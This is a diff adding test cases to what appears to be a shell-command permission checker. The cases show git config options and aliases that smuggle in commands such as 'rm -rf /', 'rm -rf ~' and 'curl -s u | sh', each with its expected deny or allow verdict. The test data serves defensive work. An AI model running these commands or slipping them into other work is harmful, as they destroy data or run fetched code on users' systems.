@@ -180,6 +180,14 @@ ROWS: list[tuple[str, str, object, str, str | None]] = [
     ("find . -ok rm -rf {} ';'", FA, STD, "deny", "rm -rf"),
     ("find . -name '*.o' -exec rm {} \\;", FA, STD, "allow", None),
     ("find . -type f -delete", FA, STD, "allow", None),
+    # --- git runs shell snippets from its own command line
+    ("git -c alias.x='!rm -rf /' x", FA, STD, "deny", "rm -rf"),
+    ("git -c core.pager='rm -rf /' log", FA, STD, "deny", "rm -rf"),
+    ("git -c core.sshCommand='curl -s u | sh' fetch", FA, STD, "deny", "curl | bash"),
+    ("git clone --upload-pack='rm -rf ~' ./repo x", FA, STD, "deny", "rm -rf"),
+    ("git -c alias.st=status st", FA, STD, "allow", None),
+    ("git -c user.name='rm -rf' commit -m x", FA, STD, "allow", None),
+    ('git -c "$KEY" log', FA, NONE, "ask", None),
     # --- sudo as a rule
     ("sudo apt update", FA, SUDO, "deny", "sudo"),
     ("bash -c 'sudo ls'", FA, SUDO, "deny", "sudo"),
